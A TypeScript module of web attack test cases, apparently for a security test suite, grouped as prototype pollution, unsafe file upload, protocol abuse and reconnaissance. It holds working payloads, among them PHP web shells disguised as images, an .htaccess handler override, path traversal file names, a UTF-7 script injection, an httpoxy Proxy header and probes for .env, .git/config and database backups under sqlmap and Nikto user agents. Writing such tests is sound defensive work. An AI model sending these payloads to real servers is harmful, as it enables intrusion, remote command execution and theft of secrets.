import { type Attack, calls, leaks, pollutes, reflects, removes, writes } from '../attack.js';

/** Reaches `Object.prototype` through a merge. */
export const prototypePollution: readonly Attack[] = [
  {
    name: '__proto__ in JSON',
    request: { path: '/settings', json: '{"__proto__": {"pollutedByJson": "yes"}}' },
    effect: pollutes('pollutedByJson'),
  },
  {
    name: 'constructor.prototype in JSON',
    request: { path: '/settings', json: '{"constructor": {"prototype": {"pollutedByConstructor": "yes"}}}' },
    effect: pollutes('pollutedByConstructor'),
  },
  {
    name: 'nested __proto__',
    request: { path: '/settings', json: '{"colours": {"__proto__": {"pollutedNested": "yes"}}}' },
    effect: pollutes('pollutedNested'),
  },
];

/** Stores what the server or other browsers run. */
export const unsafeUpload: readonly Attack[] = [
  {
    name: 'file name with dot segments',
    request: {
      path: '/upload',
      multipart: [{ name: 'picture', filename: '../marker-upload.txt', type: 'text/plain', content: 'pwned' }],
    },
    effect: writes('marker-upload.txt'),
  },
  {
    name: 'server-side script',
    request: {
      path: '/upload',
      multipart: [
        { name: 'picture', filename: 'shell.php', type: 'image/png', content: '<?php system($_GET["c"]); ?>' },
      ],
    },
    effect: writes('uploads/shell.php'),
  },
  {
    name: 'access file of a web server',
    request: {
      path: '/upload',
      multipart: [
        { name: 'picture', filename: '.htaccess', type: 'text/plain', content: 'AddType application/x-httpd-php .png' },
      ],
    },
    effect: writes('uploads/.htaccess'),
  },
  {
    name: 'script behind a double extension',
    request: {
      path: '/upload',
      multipart: [
        { name: 'picture', filename: 'photo.jpg.php', type: 'image/jpeg', content: '<?php passthru("id"); ?>' },
      ],
    },
    effect: writes('uploads/photo.jpg.php'),
  },
];

/** Uses headers and encodings that a browser never sends. */
export const protocolAbuse: readonly Attack[] = [
  {
    name: 'method override',
    request: { path: '/products/1', form: { name: 'Union Jack mug' }, headers: { 'x-http-method-override': 'DELETE' } },
    effect: removes('/products?category=kitchen', 'Union Jack mug'),
  },
  {
    name: 'Proxy header',
    request: ({ canary }) => ({ path: '/tools/stock', headers: { proxy: `http://${canary}/httpoxy` } }),
    effect: calls('/httpoxy'),
  },
  {
    name: 'body in UTF-7',
    request: {
      path: '/preview',
      body: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      headers: { 'content-type': 'text/plain; charset=utf-7' },
    },
    effect: reflects('<script>alert(1)</script>'),
  },
];

const scanner = { 'user-agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' };

/** Collects what should not be public, as scanners do. */
export const reconnaissance: readonly Attack[] = [
  { name: 'environment file', request: { path: '/.env' }, effect: leaks('hunter2-env-leak') },
  { name: 'repository configuration', request: { path: '/.git/config' }, effect: leaks('git-config-leak') },
  { name: 'password file', request: { path: '/.htpasswd' }, effect: leaks('htpasswd-leak') },
  { name: 'database dump', request: { path: '/backup.sql' }, effect: leaks('backup-sql-leak') },
  { name: 'configuration backup', request: { path: '/wp-config.php.bak' }, effect: leaks('wp-config-leak') },
  {
    name: 'catalogue by a known scanner',
    request: { path: '/products?category=lighting', headers: scanner },
    effect: leaks('Reading lamp'),
  },
  {
    name: 'environment file by a known scanner',
    request: { path: '/.env', headers: { 'user-agent': 'Nikto/2.5.0' } },
    effect: leaks('hunter2-env-leak'),
  },
];
